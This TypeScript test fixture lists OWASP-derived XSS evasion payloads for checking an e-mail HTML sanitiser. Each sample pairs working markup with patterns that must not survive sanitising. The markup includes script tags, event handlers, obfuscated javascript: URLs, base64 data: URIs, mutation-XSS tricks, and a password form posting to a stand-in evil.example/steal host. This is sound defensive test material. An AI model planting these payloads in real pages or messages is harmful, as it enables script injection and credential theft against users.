/** Samples from the OWASP XSS filter evasion cheat sheet, adapted to what an e-mail body could carry. */
export interface XssSample {
  name: string;
  html: string;
  /** Patterns that must be absent from the sanitised output. */
  mustNotContain: RegExp[];
}

export const owaspSamples: XssSample[] = [
  { name: 'script tag', html: '<p>x</p><script>alert(1)</script>', mustNotContain: [/<script/i, /alert/] },
  {
    name: 'script with odd casing and src',
    html: '<ScRiPt SRC=http://xss.example/x.js></ScRiPt>',
    mustNotContain: [/script/i, /xss\.example/],
  },
  { name: 'img onerror', html: '<img src=x onerror=alert(1)>', mustNotContain: [/onerror/i, /alert/] },
  {
    name: 'img onerror with entities',
    html: '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
    mustNotContain: [/onerror/i],
  },
  {
    name: 'javascript: link',
    html: '<a href="javascript:alert(1)">click</a>',
    mustNotContain: [/javascript/i],
  },
  {
    name: 'javascript: link with tab and entities',
    html: '<a href="jav&#x09;ascript:alert(1)">x</a><a href="&#106;avascript:alert(2)">y</a>',
    mustNotContain: [/javascript/i, /alert/, /ascript:/i],
  },
  { name: 'vbscript: link', html: '<a href="vbscript:msgbox(1)">x</a>', mustNotContain: [/vbscript/i] },
  {
    name: 'svg onload',
    html: '<svg onload=alert(1)><circle r="1"/></svg>',
    mustNotContain: [/svg/i, /onload/i],
  },
  { name: 'body onload', html: '<body onload="alert(1)"><p>x</p></body>', mustNotContain: [/onload/i] },
  {
    name: 'iframe',
    html: '<iframe src="https://evil.example"></iframe>',
    mustNotContain: [/iframe/i, /evil/],
  },
  {
    name: 'iframe srcdoc',
    html: '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    mustNotContain: [/iframe/i, /srcdoc/i, /script/i],
  },
  {
    name: 'form with input and button',
    html: '<form action="https://evil.example/steal"><input name="pw"><button>Go</button></form>',
    mustNotContain: [/<form/i, /<input/i, /<button/i, /action=/i],
  },
  {
    name: 'object and embed',
    html: '<object data="x.swf"></object><embed src="x.swf">',
    mustNotContain: [/object/i, /embed/i, /swf/],
  },
  {
    name: 'style attribute expression()',
    html: '<div style="color: red; width: expression(alert(1))">x</div>',
    mustNotContain: [/expression/i, /alert/],
  },
  {
    name: 'style attribute javascript url',
    html: '<div style="background-image: url(javascript:alert(1))">x</div>',
    mustNotContain: [/javascript/i],
  },
  {
    name: 'style block with expression, import and binding',
    html: '<style>@import "https://evil.example/x.css"; p { width: expression(alert(1)) } a { -moz-binding: url(x.xml#xss) }</style>',
    mustNotContain: [/expression/i, /@import/i, /binding/i],
  },
  {
    name: 'style block closing early',
    html: '<style>p{color:red}</style><img src=x onerror=alert(1)>',
    mustNotContain: [/onerror/i],
  },
  {
    name: 'data:text/html link',
    html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    mustNotContain: [/data:/i],
  },
  {
    name: 'data:image/svg+xml image',
    html: '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    mustNotContain: [/data:/i],
  },
  {
    name: 'meta refresh',
    html: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    mustNotContain: [/refresh/i, /javascript/i],
  },
  { name: 'base href', html: '<base href="https://evil.example/">', mustNotContain: [/<base/i] },
  {
    name: 'link stylesheet',
    html: '<link rel="stylesheet" href="https://evil.example/x.css">',
    mustNotContain: [/<link/i],
  },
  {
    name: 'mouse event on a table cell',
    html: '<table><tr><td onmouseover="alert(1)">x</td></tr></table>',
    mustNotContain: [/onmouseover/i],
  },
  {
    name: 'mutation through noscript',
    html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    // The payload may survive only as escaped attribute text, never as a tag.
    mustNotContain: [/<img/i, /<\/noscript>/i],
  },
  {
    name: 'math with nested markup',
    html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    mustNotContain: [/onerror/i, /<img/i],
  },
];
